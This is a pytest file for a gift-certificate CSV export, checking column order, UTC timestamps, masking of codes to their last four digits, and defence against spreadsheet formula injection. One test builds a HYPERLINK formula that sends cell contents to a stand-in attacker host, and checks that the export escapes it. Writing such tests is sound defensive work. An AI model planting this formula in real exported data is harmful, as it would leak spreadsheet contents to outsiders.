"""A certificate's CSV row (giftcert.operations.export): every column in its documented order, no
code but its last four characters, and no cell a spreadsheet would run as a formula."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from uuid import UUID
from zoneinfo import ZoneInfo

import pytest

from giftcert.domain.certificate import Certificate, Status
from giftcert.domain.money import Amount
from giftcert.operations.export import COLUMNS, neutralised, row_of

CREATED = datetime(2026, 11, 30, 23, 59, 58, 123456, tzinfo=UTC)
CODE = "ABCDEFGHJKMN"


def _certificate(**changes: object) -> Certificate:
    pending = Certificate(
        id=UUID("00000000-0000-4000-8000-000000000001"), workspace_id="w", status=Status.PENDING,
        amount=Amount(5000, "EUR"), code=CODE, channel="portal", segment="tours", purchaser_name="Pat Buyer",
        purchaser_email="pat@example.com", recipient_name="Robin Friend", recipient_email="robin@example.com",
        message="Happy travels", expiry_days=365, created_at=CREATED,
    )
    paid = pending.activated(at=CREATED + timedelta(hours=1), payment_id="pay-1").applied(1200, at=CREATED)
    return replace(paid, **changes)  # type: ignore[arg-type]


def _parsed(*certificates: Certificate) -> list[list[str]]:
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    writer.writerows(map(row_of, certificates))
    return list(csv.reader(io.StringIO(text.getvalue(), newline="")))


def test_a_row_holds_every_documented_column_in_order_with_utc_times_and_the_kept_balance() -> None:
    header, row = _parsed(_certificate())
    assert header == [
        "certificate_id", "kind", "status", "code_last4", "currency", "value_minor", "balance_minor",
        "created_at", "activated_at", "expires_at", "redeemed_at", "voided_at", "expired_at",
        "channel", "segment", "purchaser_name", "purchaser_email", "recipient_name", "recipient_email", "payment_id",
    ]
    assert dict(zip(header, row, strict=True)) == {
        "certificate_id": "00000000-0000-4000-8000-000000000001", "kind": "purchased", "status": "active",
        "code_last4": "JKMN", "currency": "EUR", "value_minor": "5000", "balance_minor": "3800",
        "created_at": "2026-11-30T23:59:58Z", "activated_at": "2026-12-01T00:59:58Z",
        "expires_at": "2027-12-01T00:59:58Z", "redeemed_at": "", "voided_at": "", "expired_at": "",
        "channel": "portal", "segment": "tours", "purchaser_name": "Pat Buyer", "purchaser_email": "pat@example.com",
        "recipient_name": "Robin Friend", "recipient_email": "robin@example.com", "payment_id": "pay-1",
    }


def test_a_row_never_holds_the_full_code() -> None:
    rows = _parsed(_certificate(), _certificate(code="ZZZZZZZZJKMN"))
    assert all(CODE not in cell and "ZZZZZZZZJKMN" not in cell for row in rows for cell in row)
    assert [row[3] for row in rows[1:]] == ["JKMN", "JKMN"]


def test_times_in_another_offset_are_written_in_utc() -> None:
    in_tokyo = datetime(2026, 12, 1, 10, 0, tzinfo=ZoneInfo("Asia/Tokyo"))
    _, row = _parsed(_certificate(voided_at=in_tokyo))
    assert row[COLUMNS.index("voided_at")] == "2026-12-01T01:00:00Z"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_customer_text_that_could_start_a_formula_is_written_as_text(start: str) -> None:
    attack = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    certificate = _certificate(
        purchaser_name=attack, recipient_name=attack, purchaser_email=f"{start}x@example.com",
        recipient_email=f"{start}y@example.com", segment=attack, channel=attack, payment_id=attack,
    )
    _, row = _parsed(certificate)
    cells = dict(zip(COLUMNS, row, strict=True))
    for column in ("channel", "segment", "purchaser_name", "recipient_name", "payment_id"):
        assert cells[column] == f"'{attack}", column
    assert cells["purchaser_email"] == f"'{start}x@example.com"
    assert cells["recipient_email"] == f"'{start}y@example.com"


def test_text_that_cannot_start_a_formula_is_written_as_it_is() -> None:
    assert neutralised("Zoë = Max + 1") == "Zoë = Max + 1"
    assert neutralised("") == ""
    assert neutralised(None) == ""
    _, row = _parsed(_certificate(segment=None, payment_id=None))
    assert row[COLUMNS.index("segment")] == row[COLUMNS.index("payment_id")] == ""
